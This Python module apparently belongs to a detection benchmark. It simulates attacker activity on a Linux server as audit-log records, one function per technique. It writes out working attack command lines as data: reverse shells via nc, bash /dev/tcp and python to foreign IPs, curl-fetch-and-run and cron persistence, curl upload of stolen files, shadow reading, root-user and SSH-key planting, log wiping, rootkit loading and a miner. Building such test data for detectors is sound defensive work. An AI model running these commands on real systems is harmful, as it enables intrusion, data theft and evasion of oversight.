"""What attackers do on a server, as the audit daemon records it: a function per kind, after MITRE ATT&CK's techniques.

Each gets the process that the attacker controls (a shell of a login, or a worker of the web application), and marks the
records of what it does with the attack.
"""

import random
from collections.abc import Callable

from bench.detect.suites import Attack
from bench.support.audit_writer import Process

FOREIGN = ("185.220.101.34", "45.155.205.9", "193.32.162.60", "91.92.240.11", "103.136.42.7", "89.248.165.52")
PORTS = (4444, 9001, 443, 1337, 53, 8443)
Act = Callable[[Process, random.Random, Attack], None]


def target(draw: random.Random) -> tuple[str, int]:
    return draw.choice(FOREIGN), draw.choice(PORTS)


def connect(process: Process, draw: random.Random, attack: Attack, to: tuple[str, int], error: int = 0) -> None:
    process.call("connect", process.program, socket=to, key="net", attack=attack, error=error)
    process.wait(0.1, 1)


def look_around(shell: Process, draw: random.Random, attack: Attack) -> None:
    """What a shell that was just gained is used for first."""
    commands = (
        ("id",),
        ("whoami",),
        ("uname", "-a"),
        ("hostname",),
        ("cat", "/etc/passwd"),
        ("ip", "addr"),
        ("ps", "aux"),
    )
    for command in draw.sample(commands, draw.randint(3, 5)):
        shell.run(*command, attack=attack)
        shell.wait(1, 8)


def netcat_shell(shell: Process, draw: random.Random, attack: Attack) -> None:
    host, port = target(draw)
    netcat = shell.run("nc", "-e", "/bin/sh", host, str(port), exe="/usr/bin/nc.traditional", attack=attack)
    connect(netcat, draw, attack, (host, port))
    look_around(netcat.run("sh", exe="sh", attack=attack), draw, attack)


def bash_shell(shell: Process, draw: random.Random, attack: Attack) -> None:
    host, port = target(draw)
    bash = shell.run("bash", "-c", f"bash -i >& /dev/tcp/{host}/{port} 0>&1", attack=attack)
    connect(bash, draw, attack, (host, port))
    look_around(bash.run("bash", "-i", attack=attack), draw, attack)


def python_shell(shell: Process, draw: random.Random, attack: Attack) -> None:
    host, port = target(draw)
    code = (
        f"import socket,os,pty;s=socket.socket();s.connect(('{host}',{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
    )
    python = shell.run("python3", "-c", f"{code}pty.spawn('/bin/bash')", attack=attack)
    connect(python, draw, attack, (host, port))
    look_around(python.run("/bin/bash", exe="bash", attack=attack), draw, attack)


def download_and_run(shell: Process, draw: random.Random, attack: Attack) -> None:
    host, _ = target(draw)
    name = draw.choice(("x", "upd", "kworkerd", "init.sh", "b64"))
    folder = draw.choice(("/tmp", "/var/tmp", "/dev/shm"))
    sh = shell.run(
        "sh", "-c", f"curl -fsSL http://{host}/{name} -o {folder}/{name} && sh {folder}/{name}", attack=attack
    )
    curl = sh.run("curl", "-fsSL", f"http://{host}/{name}", "-o", f"{folder}/{name}", attack=attack)
    connect(curl, draw, attack, (host, 80))
    sh.run("chmod", "+x", f"{folder}/{name}", attack=attack)
    payload = sh.run(f"{folder}/{name}", attack=attack)
    connect(payload, draw, attack, target(draw))


def set_user_id(shell: Process, draw: random.Random, attack: Attack) -> None:
    copy = draw.choice(("/tmp/.b", "/var/tmp/.cache", "/home/shared/bash"))
    shell.sudo("cp", "/bin/bash", copy, attack=attack)
    shell.wait(1, 5)
    chmod = shell.sudo("chmod", draw.choice(("u+s", "4755", "+s")), copy, attack=attack)
    chmod.call("fchmodat", "chmod", paths=[(copy, "NORMAL")], key="perm", attack=attack)
    shell.wait(2, 9)
    shell.run(copy, "-p", attack=attack).run("id", attack=attack)


def read_shadow(shell: Process, draw: random.Random, attack: Attack) -> None:
    for program in draw.sample(("cat", "head", "cp", "base64"), 2):
        words = (program, "/etc/shadow", "/tmp/s") if program == "cp" else (program, "/etc/shadow")
        reader = shell.run(*words, attack=attack)
        reader.call("openat", program, paths=[("/etc/shadow", "NORMAL")], error=13, key="identity", attack=attack)
        shell.wait(1, 6)
    reader = shell.sudo("cat", "/etc/shadow", attack=attack)
    reader.call("openat", "cat", paths=[("/etc/shadow", "NORMAL")], key="identity", attack=attack)


def add_user(shell: Process, draw: random.Random, attack: Attack) -> None:
    name = draw.choice(("sysbackup", "support", "ubuntu2", "nagios1"))
    useradd = shell.sudo("useradd", "-m", "-o", "-u", "0", "-s", "/bin/bash", name, attack=attack)
    useradd.call(
        "openat", "useradd", paths=[("/etc/", "PARENT"), ("/etc/passwd", "NORMAL")], key="identity", attack=attack
    )
    what = "op=adding user id=0 | hostname=? addr=? terminal=pts/0 res=success"
    shell.host.user_record(useradd.time + 0.1, "ADD_USER", useradd.who(), what, attack, "useradd")
    shell.wait(2, 8)
    tee = shell.sudo("tee", f"/etc/sudoers.d/{name}", attack=attack)
    path = f"/etc/sudoers.d/{name}"
    tee.call("openat", "tee", paths=[("/etc/sudoers.d/", "PARENT"), (path, "CREATE")], key="sudoers", attack=attack)


def cron_persistence(shell: Process, draw: random.Random, attack: Attack) -> None:
    host, _ = target(draw)
    shell.run("bash", "-c", f"(crontab -l; echo '*/5 * * * * curl -s http://{host}/c|sh')|crontab -", attack=attack)
    crontab = shell.run("crontab", "-", attack=attack)
    path = "/var/spool/cron/crontabs/tmp.Xk3b1a"
    crontab.call("openat", "crontab", paths=[(path, "CREATE")], key="cron", attack=attack)
    shell.wait(1, 4)
    tee = shell.sudo("tee", "/etc/cron.d/php-update", attack=attack)
    tee.call("openat", "tee", paths=[("/etc/cron.d/php-update", "CREATE")], key="cron", attack=attack)


def plant_key(shell: Process, draw: random.Random, attack: Attack) -> None:
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + "".join(draw.choices("abcdefXYZ0123456789", k=40))
    bash = shell.run("sh", "-c", f"echo '{key} x' >> /root/.ssh/authorized_keys", attack=attack)
    keys = [("/root/.ssh/authorized_keys", "NORMAL")]
    bash.call("openat", "sh", paths=keys, error=13, key="keys", attack=attack)
    shell.wait(1, 5)
    tee = shell.sudo("tee", "-a", "/root/.ssh/authorized_keys", attack=attack)
    tee.call("openat", "tee", paths=keys, key="keys", attack=attack)
    shell.sudo("chattr", "+i", "/root/.ssh/authorized_keys", attack=attack)


def blind_the_log(shell: Process, draw: random.Random, attack: Attack) -> None:
    shell.sudo("auditctl", "-e", "0", attack=attack)
    shell.host.event(
        shell.time,
        [f"CONFIG_CHANGE\nop=set audit_enabled=0 old=1 auid={shell.auid} ses={shell.ses} subj=unconfined res=1"],
        attack,
    )
    shell.wait(1, 4)
    shell.sudo("systemctl", "stop", draw.choice(("auditd", "rsyslog")), attack=attack)
    for path in draw.sample(("/var/log/auth.log", "/var/log/wtmp", "/var/log/syslog", "/var/log/audit/audit.log"), 3):
        rm = shell.sudo(draw.choice(("rm", "shred")), "-f", path, attack=attack)
        rm.call("unlinkat", rm.program, paths=[("/var/log/", "PARENT"), (path, "DELETE")], key="logs", attack=attack)
        shell.wait(0.5, 3)
    shell.run("rm", "-f", ".bash_history", attack=attack)


def miner(shell: Process, draw: random.Random, attack: Attack) -> None:
    folder = draw.choice(("/tmp/.X11", "/dev/shm", "/var/tmp/.systemd"))
    shell.run("mkdir", "-p", folder, attack=attack)
    shell.run("tar", "xzf", "/tmp/m.tgz", "-C", folder, attack=attack)
    for command in (("nproc",), ("pkill", "-f", "xmrig")):
        shell.run(*command, attack=attack)
    pool = f"stratum+tcp://{draw.choice(FOREIGN)}:3333"
    mining = shell.run(f"{folder}/kdevtmpfsi", "-o", pool, "-u", "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq", attack=attack)
    connect(mining, draw, attack, (draw.choice(FOREIGN), 3333))


def kernel_module(shell: Process, draw: random.Random, attack: Attack) -> None:
    shell.run("make", "-C", "/lib/modules/6.1.0-18-amd64/build", "M=/tmp/r", "modules", attack=attack)
    shell.wait(3, 9)
    insmod = shell.sudo("insmod", "/tmp/r/diamorphine.ko", attack=attack)
    module = ['KERN_MODULE\nname="diamorphine"']
    insmod.call("finit_module", "insmod", key="modules", attack=attack, more=module)
    shell.sudo("dmesg", "-C", attack=attack)


def scan(shell: Process, draw: random.Random, attack: Attack) -> None:
    network = draw.choice(("10.20.0", "10.30.1"))
    if draw.random() < 0.5:
        nmap = shell.run("nmap", "-sT", "-p", "22,80,445,3306", f"{network}.0/24", attack=attack)
        for host in range(1, 12):
            connect(nmap, draw, attack, (f"{network}.{host}", draw.choice((22, 445, 3306))), draw.choice((0, 111, 113)))
        return
    loop = shell.run("bash", "-c", f"for i in {{1..40}}; do nc -zvw1 {network}.$i 22; done", attack=attack)
    for host in range(1, 15):
        netcat = loop.run("nc", "-zvw1", f"{network}.{host}", "22", attack=attack)
        connect(netcat, draw, attack, (f"{network}.{host}", 22), draw.choice((111, 113)))


def exfiltration(shell: Process, draw: random.Random, attack: Attack) -> None:
    host, _ = target(draw)
    shell.run("tar", "czf", "/tmp/.d.tgz", "/srv/shop/config", "/home", attack=attack)
    shell.wait(3, 20)
    curl = shell.run("curl", "-s", "-F", "f=@/tmp/.d.tgz", f"https://{host}/u", attack=attack)
    connect(curl, draw, attack, (host, 443))
    shell.wait(3, 20)
    shell.run("rm", "-f", "/tmp/.d.tgz", attack=attack)


def escalate(shell: Process, draw: random.Random, attack: Attack) -> None:
    exploit = draw.choice(("/tmp/pwn/cve", "/tmp/exploit", "/var/tmp/pk"))
    shell.run("gcc", "-o", exploit, "pk.c", attack=attack)
    for _ in range(draw.randint(4, 9)):
        tried = shell.run(exploit, attack=attack)
        tried.call("setuid", tried.program, error=1, key="setuid", attack=attack)
        pkexec = tried.run("pkexec", attack=attack)
        if draw.random() < 0.3:
            fields = (
                f"auid={shell.auid} uid={shell.uid} gid={shell.uid} ses={shell.ses} subj=unconfined pid={pkexec.pid}"
            )
            crash = f'ANOM_ABEND\n{fields} comm="pkexec" exe="/usr/bin/pkexec" sig=11 res=1'
            shell.host.event(pkexec.time, [crash], attack)
        shell.wait(0.5, 3)
    shell.run("/bin/sh", exe="sh", uid=0, attack=attack).run("id", attack=attack)


def lateral_movement(shell: Process, draw: random.Random, attack: Attack) -> None:
    shell.run("find", "/", "-name", "id_rsa", "-o", "-name", "id_ed25519", attack=attack)
    for address in draw.sample(("10.20.0.6", "10.20.0.7", "10.20.0.8", "10.20.0.9"), 3):
        words = ("-o", "StrictHostKeyChecking=no", "-i", "/tmp/k", f"root@{address}", "id")
        ssh = shell.run("ssh", *words, attack=attack)
        connect(ssh, draw, attack, (address, 22), draw.choice((0, 111)))
        shell.wait(1, 5)


def search_weaknesses(shell: Process, draw: random.Random, attack: Attack) -> None:
    commands = (
        *(
            ("find", "/", "-perm", "-4000", "-type", "f"),
            ("getcap", "-r", "/"),
            ("sudo", "-l"),
            ("cat", "/etc/crontab"),
        ),
        *(
            ("grep", "-rl", "password", "/etc", "/srv"),
            ("find", "/", "-writable", "-type", "d"),
            ("ls", "-la", "/root"),
        ),
    )
    for command in draw.sample(commands, 5):
        reader = shell.run(*command, attack=attack)
        if command[0] == "grep":
            reader.call("openat", "grep", paths=[("/etc/shadow", "NORMAL")], error=13, key="identity", attack=attack)
        shell.wait(1, 6)
    shell.run("sh", "-c", "echo aWQ7IGNhdCAvZXRjL3Bhc3N3ZDsgZmluZCAvIC1wZXJtIC00MDAw|base64 -d|sh", attack=attack)


def sniff(shell: Process, draw: random.Random, attack: Attack) -> None:
    tcpdump = shell.sudo("tcpdump", "-i", "eth0", "-w", "/tmp/.p.pcap", "port", "3306", attack=attack)
    fields = f"dev=eth0 prom=256 old_prom=0 auid={shell.auid} uid=0 gid=0 ses={shell.ses}"
    shell.host.event(tcpdump.time, [f"ANOM_PROMISCUOUS\n{fields}"], attack)


ATTACKS: dict[str, tuple[str, Act]] = {
    "reverse shell by netcat": ("web", netcat_shell),
    "reverse shell by bash": ("web", bash_shell),
    "reverse shell by python": ("web", python_shell),
    "download and run": ("web", download_and_run),
    "set-user-id shell": ("user", set_user_id),
    "reading of password hashes": ("user", read_shadow),
    "new user with rights": ("user", add_user),
    "persistence by cron": ("user", cron_persistence),
    "planted key": ("user", plant_key),
    "blinding of the log": ("user", blind_the_log),
    "miner": ("user", miner),
    "kernel module": ("user", kernel_module),
    "port scan": ("user", scan),
    "exfiltration": ("user", exfiltration),
    "escalation by an exploit": ("user", escalate),
    "lateral movement": ("service", lateral_movement),
    "search for weaknesses": ("user", search_weaknesses),
    "sniffing": ("user", sniff),
}
"""By kind: what is misused (`user` and `service`: a login; `web`: the application), and what is done."""
